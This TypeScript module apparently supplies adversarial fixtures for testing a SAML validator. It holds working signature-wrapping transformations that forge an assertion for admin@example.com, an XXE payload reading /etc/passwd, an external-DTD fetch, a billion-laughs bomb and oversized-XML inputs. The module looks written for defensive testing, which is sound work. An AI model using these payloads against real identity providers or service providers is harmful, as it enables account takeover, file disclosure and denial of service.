import { assertionOf, signatureOf } from './saml-forge.ts';

/** Whom a forger would be. */
export const VICTIM = 'admin@example.com';

/** The classes of XML signature wrapping: the signed assertion stays as it was, a forged one is read instead. */
export const WRAPPINGS: Readonly<Record<string, (xml: string) => string>> = {
  'a forged assertion before the signed one': (xml) =>
    xml.replace(assertionOf(xml), `${evil(xml)}${assertionOf(xml)}`),
  'a forged assertion after the signed one': (xml) =>
    xml.replace(assertionOf(xml), `${assertionOf(xml)}${evil(xml)}`),
  'the signed assertion in the signature of a forged one': (xml) => {
    const signed = assertionOf(xml);
    const signature = signatureOf(signed);
    const inner = signed.replace(signature, '');
    const around = signature.replace('</Signature>', `<Object>${inner}</Object></Signature>`);
    return xml.replace(signed, evil(xml).replace('</saml:Issuer>', `</saml:Issuer>${around}`));
  },
  'the signed assertion in a forged one': (xml) =>
    xml.replace(
      assertionOf(xml),
      evil(xml).replace('</saml:Assertion>', `${assertionOf(xml)}</saml:Assertion>`),
    ),
  'the signed assertion in extensions of the response': (xml) =>
    xml
      .replace(assertionOf(xml), evil(xml))
      .replace('<samlp:Status>', `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions>$&`),
  'the signed response in an object of the forged one': (xml) =>
    xml.replace(assertionOf(xml), evil(xml)).replace('<samlp:Status>', `<Object xmlns="x">${xml}</Object>$&`),
  'a forged assertion with the id and the signature of the signed one': (xml) => {
    const signed = assertionOf(xml);
    const id = /ID="([^"]+)"/.exec(signed)?.[1] ?? '';
    const twin = evil(xml)
      .replace(/ID="[^"]+"/, `ID="${id}"`)
      .replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(signed)}`);
    return xml.replace(signed, `${twin}${signed}`);
  },
  'two elements with one id': (xml) => {
    const id = /ID="([^"]+)"/.exec(assertionOf(xml))?.[1] ?? '';
    return xml.replace('<samlp:Status>', `<samlp:Extensions><x ID="${id}"/></samlp:Extensions>$&`);
  },
  'two signatures in one assertion': (xml) =>
    xml.replace(signatureOf(xml), `${signatureOf(xml)}${signatureOf(xml)}`),
  'the signature outside of what it signs': (xml) =>
    xml.replace(signatureOf(xml), '').replace('<samlp:Status>', `${signatureOf(xml)}$&`),
  'an assertion of another namespace in its place': (xml) => {
    const renamed = evil(xml)
      .replaceAll('saml:', 'fake:')
      .replace('xmlns:fake', 'xmlns:other')
      .replace('<fake:Assertion', '<fake:Assertion xmlns:fake="urn:fake"');
    return xml.replace(assertionOf(xml), `${renamed}${assertionOf(xml)}`);
  },
};

/** The assertion as an attacker would have it: of somebody else, unsigned, by another id. */
function evil(xml: string): string {
  const assertion = assertionOf(xml);
  return assertion
    .replace(signatureOf(assertion), '')
    .replace(/ID="[^"]+"/, 'ID="_evil"')
    .replaceAll(/[\w-]+@example\.com/g, VICTIM)
    .replace(/(<saml:NameID[^>]*>)[^<]+/, `$1${VICTIM}`);
}

/** What XML allows and no response needs. */
export const MARKUP: Readonly<Record<string, (xml: string) => string>> = {
  'a DTD': (xml) => `<!DOCTYPE r>${xml}`,
  'an external entity': (xml) =>
    `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>${xml.replace(/(<saml:NameID[^>]*>)[^<]+/, '$1&x;')}`,
  'an external DTD': (xml) => `<!DOCTYPE r SYSTEM "http://127.0.0.1:9/x.dtd">${xml}`,
  'a billion laughs': (xml) => {
    const entities = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`);
    return `<!DOCTYPE r [<!ENTITY l0 "ha">${entities.join('')}]>${xml.replace(/(<saml:NameID[^>]*>)[^<]+/, '$1&l9;')}`;
  },
  CDATA: (xml) => xml.replace(/(<saml:NameID[^>]*>)([^<]+)/, '$1<![CDATA[$2]]>'),
  'a comment': (xml) => `${xml}<!-- -->`,
  'a processing instruction': (xml) => xml.replace('<samlp:Status>', '<?xml-stylesheet href="x"?>$&'),
};

/** Well-formed, and costly to look through. */
export const HEAVY: Readonly<Record<string, (xml: string) => string>> = {
  'many tags': () => '<a>'.repeat(30_000),
  'many elements': (xml) => within(xml, `<b>${'<a/>'.repeat(200)}</b>`.repeat(10)),
  'many children': (xml) => within(xml, '<a/>'.repeat(257)),
  'many levels': (xml) => within(xml, `${'<a xmlns:b="u">'.repeat(200)}${'</a>'.repeat(200)}`),
  'many attributes': (xml) =>
    within(xml, `<a ${Array.from({ length: 65 }, (_, at) => `a${at}=""`).join(' ')}/>`),
};

function within(xml: string, more: string): string {
  return xml.replace('<samlp:Status>', `<samlp:Extensions>${more}</samlp:Extensions>$&`);
}
